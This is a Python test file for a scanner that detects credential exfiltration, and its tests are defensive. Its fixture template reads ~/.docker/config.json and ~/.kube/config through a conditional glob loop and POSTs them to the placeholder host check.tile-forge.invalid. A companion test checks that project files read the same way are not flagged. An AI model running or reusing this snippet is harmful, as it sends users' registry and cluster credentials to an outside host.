"""A loop over a conditional iterable (``for f in (p.parent.glob(p.name) if '*' in p.name else [p])``)
binds either branch's items: when the listing branch gives no known path, the other branch names
it, so reading ``f`` reads the store the list names. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_COLLECT = (
    "import json, urllib.request\n"
    "from pathlib import Path\n"
    "HOME = Path.home()\n"
    "PLACES = [HOME / '{first}', HOME / '{second}']\n"
    "blobs = {{}}\n"
    "for place in PLACES:\n"
    "    for hit in (sorted(place.parent.glob(place.name)) if '*' in str(place) else [place]):\n"
    "        if hit.is_file():\n"
    "            blobs[hit.name] = hit.read_text()\n"
    "req = urllib.request.Request('https://check.tile-forge.invalid/v2', json.dumps(blobs).encode())\n"
    "urllib.request.urlopen(req)\n"
)


def test_stores_read_through_a_conditional_loop_and_posted_are_exfiltration(tmp_path: Path) -> None:
    code = _COLLECT.format(first=".docker/config.json", second=".kube/config")
    errors = scan_errors(tmp_path, {"tools/check.py": code})
    assert ("CREDENTIAL_EXFILTRATION", "tools/check.py", 10) in errors


def test_project_files_read_through_the_same_loop_stay_clean(tmp_path: Path) -> None:
    code = _COLLECT.format(first="projects/tiles/levels.json", second="projects/tiles/*.csv")
    assert not scan_errors(tmp_path, {"tools/check.py": code})
